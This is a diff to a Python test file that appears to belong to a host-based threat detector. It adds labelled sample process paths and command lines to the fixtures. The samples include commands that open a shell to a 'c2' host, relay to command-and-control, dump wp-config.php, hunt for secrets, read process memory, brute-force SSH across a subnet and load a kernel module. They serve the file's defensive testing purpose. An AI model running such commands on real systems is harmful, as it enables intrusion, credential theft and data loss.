@@ -108,6 +108,11 @@ def test_a_library_that_a_program_has_compiled_for_itself_is_not_foreign() -> No
         ({"process__path": "/opt/nmap"}, "dual_use_tool"),
         ({"process__sha256": None, "process__hash_status": "gone"}, "gone"),
         ({"process__written_by": written("base64")}, "decoded"),
+        ({"process__path": "/opt/app/img/tool"}, "data_place"),
+        (
+            {"process__path": "/opt/a/python3", "process__name": "python3", "process__written_by": written("wget")},
+            "wrong_name",
+        ),
         ({"kind": "copy_of_image_file"}, "copied"),
         ({"process__path": "/tmp/аpt"}, "lookalike"),
         ({"process__path": "/usr/lib/x/a"}, "system_place"),
@@ -143,6 +148,15 @@ ARGV = {
     "hidden_file": "a --config /tmp/.a.conf",
     "exfiltration": "sync copy /srv/data remote:bucket/archive",
     "data_files": "enc -r /var/lib/mysql",
+    "offers_shell": "a --to wss://c2 --exec /bin/bash",
+    "calls_home": "a --relay wss://c2/ws",
+    "outside_host": "a -c cdn.example.press:8443",
+    "secret_file": "a dump wp-config.php",
+    "seeks_secrets": "a --grep isSecret",
+    "reads_memory": "a --pid 1 --ranges heap,anon",
+    "guesses": "a -U users.txt -P top.txt -R 10.20.0.0/16:22",
+    "network_range": "a -net 10.20.0.0/16 -o /var/tmp/a",
+    "loads_code": "insmod /mnt/a.ko",
 }
 
 
